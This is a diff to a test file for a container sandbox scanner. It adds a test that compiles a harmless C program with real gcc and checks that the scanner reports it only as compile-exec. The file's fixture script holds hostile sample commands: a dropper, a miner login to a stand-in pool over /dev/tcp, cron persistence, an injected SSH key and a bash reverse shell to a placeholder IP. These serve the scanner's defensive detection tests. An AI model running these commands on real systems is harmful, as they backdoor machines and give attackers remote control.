@@ -9,14 +9,10 @@ import { existsSync, readdirSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { test } from 'node:test';
-import { buildImage, type FileSpec } from '../src/fixtures/builder.js';
 import { writeOciLayout } from '../src/fixtures/layouts.js';
-import { SANDBOX_SKIP } from './sandbox-runtime-images.js';
+import { GCC_SKIP, HELLO_C, SANDBOX_SKIP, gccLayerTar, onDebian } from './sandbox-runtime-images.js';
 import { runCli } from './support/cli.js';
-import { debianLayerTar } from './support/debian-rootfs.js';
 import { tempDir } from './support/tmp.js';
-
-const PATH = 'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin';
 
 const MALICIOUS = `#!/bin/bash
 # A dropper: writes a script that was not in the image, makes it executable, runs it.
@@ -26,9 +22,6 @@ chmod +x /tmp/.kworker
 # A miner's first words to its pool, on an unusual port, by name.
 getent hosts xmr.pool.example-mining.test >/dev/null
 echo '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.21.0"}}' > /dev/tcp/xmr.pool.example-mining.test/14444 || true
-# A "compiler" run at run time whose output is then executed.
-cc -o /tmp/a.out /opt/x.c
-/tmp/a.out
 # Persistence.
 echo '* * * * * root /tmp/.kworker' > /etc/cron.d/kworker
 mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyFakeKeyFakeKeyFakeKeyFakeKeyFakeKe x' >> /root/.ssh/authorized_keys
@@ -39,12 +32,14 @@ timeout 3 bash -c 'bash -i >& /dev/tcp/203.0.113.77/4444 0>&1' || true
 exit 0
 `;
 
-// Stands in for gcc: a harmless "compiler" that writes a runnable file.
-const FAKE_CC = `#!/bin/sh
-out=a.out
-while [ $# -gt 0 ]; do [ "$1" = -o ] && out=$2; shift; done
-printf '#!/bin/sh\\necho compiled\\n' > "$out"
-chmod +x "$out"
+// Writes a small harmless C program, compiles it with the real gcc (the host's toolchain in a
+// layer) and runs what it built: what a sample that builds its payload on the spot does.
+const COMPILE = `#!/bin/sh
+set -e
+cat > /tmp/hello.c <<'EOF'
+${HELLO_C}EOF
+gcc -O1 -o /tmp/hello /tmp/hello.c
+/tmp/hello
 `;
 
 const BENIGN = `#!/bin/bash
@@ -56,39 +51,33 @@ exit 0
 `;
 
 async function images(dir: string) {
-  const base = { tar: await debianLayerTar(), compression: 'gzip' as const, createdBy: 'debootstrap' };
-  const layer = (files: FileSpec[]) => ({ files, createdBy: 'COPY . /' });
   const layout = join(dir, 'oci');
   await writeOciLayout(layout, [
     {
       ref: 'malicious',
-      image: buildImage({
-        layers: [
-          base,
-          layer([
+      image: await onDebian(
+        [
+          [
             { path: 'opt/', type: 'dir' },
             { path: 'opt/run.sh', mode: 0o755, content: MALICIOUS },
-            { path: 'opt/x.c', content: 'int main(void) { return 0; }\n' },
-            { path: 'usr/local/bin/cc', mode: 0o755, content: FAKE_CC },
-          ]),
+          ],
         ],
-        config: { Entrypoint: ['/opt/run.sh'], Env: [PATH] },
-      }),
+        { Entrypoint: ['/opt/run.sh'] },
+      ),
     },
     {
       ref: 'benign',
-      image: buildImage({
-        layers: [
-          base,
-          layer([
+      image: await onDebian(
+        [
+          [
             { path: 'opt/', type: 'dir' },
             { path: 'opt/serve.sh', mode: 0o755, content: BENIGN },
             { path: 'etc/app/', type: 'dir' },
             { path: 'etc/app/app.conf', content: 'port=8080\n' },
-          ]),
+          ],
         ],
-        config: { Entrypoint: ['/opt/serve.sh'], Env: [PATH] },
-      }),
+        { Entrypoint: ['/opt/serve.sh'] },
+      ),
     },
   ]);
   return { malicious: `oci:${layout}:malicious`, benign: `oci:${layout}:benign` };
@@ -107,6 +96,7 @@ interface Behavior {
   }[];
   processes: { argv: string[] }[];
   dropped: { path: string }[];
+  warnings: string[];
 }
 
 function leftovers(): string[] {
@@ -131,7 +121,7 @@ test(
     const b = (JSON.parse(bad.stdout) as { behavior: Behavior }).behavior;
     assert.equal(b.ran, true, 'the container ran');
     const categories = new Set(b.findings.map((f) => f.category));
-    for (const c of ['dropper', 'miner', 'compile-exec', 'persistence', 'credential-access', 'reverse-shell'])
+    for (const c of ['dropper', 'miner', 'persistence', 'credential-access', 'reverse-shell'])
       assert.ok(
         categories.has(c),
         `${c} found: ${JSON.stringify(b.findings.map((f) => [f.category, f.rule]))}`,
@@ -179,5 +169,55 @@ test(
     assert.ok(!mounts.includes('shipshape-sandbox-'), 'no mount left behind');
     const runs = join(dir, 'runs');
     assert.ok(!existsSync(runs) || readdirSync(runs).length === 0, 'no live-run record left behind');
+  },
+);
+
+test(
+  'sandbox CLI: a C program compiled with the real gcc and then run is compile-exec, and nothing worse',
+  { skip: GCC_SKIP },
+  async () => {
+    const dir = tempDir();
+    const layout = join(dir, 'oci');
+    const started = Date.now();
+    await writeOciLayout(layout, [
+      {
+        ref: 'compile',
+        image: await onDebian(
+          [
+            await gccLayerTar(),
+            [
+              { path: 'opt/', type: 'dir' },
+              { path: 'opt/build.sh', mode: 0o755, content: COMPILE },
+            ],
+          ],
+          { Entrypoint: ['/opt/build.sh'] },
+        ),
+      },
+    ]);
+    const built = Date.now();
+    const env = { SHIPSHAPE_DB: join(dir, 'db.sqlite'), SHIPSHAPE_SANDBOX_RUNS: join(dir, 'runs') };
+    const r = await runCli(
+      ['sandbox', '--format', 'json', '--timeout', '60', `oci:${layout}:compile`],
+      env,
+      300_000,
+    );
+    console.log(`# gcc image built in ${built - started} ms, sandboxed in ${Date.now() - built} ms`);
+    assert.equal(r.code, 1, `compile-exec fails the default gate: ${r.stderr} ${r.stdout.slice(0, 6000)}`);
+    const b = (JSON.parse(r.stdout) as { behavior: Behavior }).behavior;
+    assert.equal(b.exitCode, 0, `gcc compiled and the program ran: ${JSON.stringify(b.warnings)}`);
+    const ran = new Set(b.processes.map((p) => p.argv[0]?.split('/').pop()));
+    for (const tool of ['gcc', 'cc1', 'as', 'collect2', 'ld'])
+      assert.ok(ran.has(tool), `the real ${tool} ran: ${[...ran].join(' ')}`);
+    const compile = b.findings.filter((f) => f.category === 'compile-exec');
+    assert.ok(
+      compile.some(
+        (f) => f.severity === 'high' && /gcc/.test(f.evidence) && f.evidence.includes('/tmp/hello'),
+      ),
+      `compile-exec names gcc and its output: ${JSON.stringify(b.findings)}`,
+    );
+    const others = b.findings.filter(
+      (f) => f.category !== 'compile-exec' && /high|critical/.test(f.severity),
+    );
+    assert.deepEqual(others, [], 'the toolchain at work is not mistaken for a dropper or worse');
   },
 );
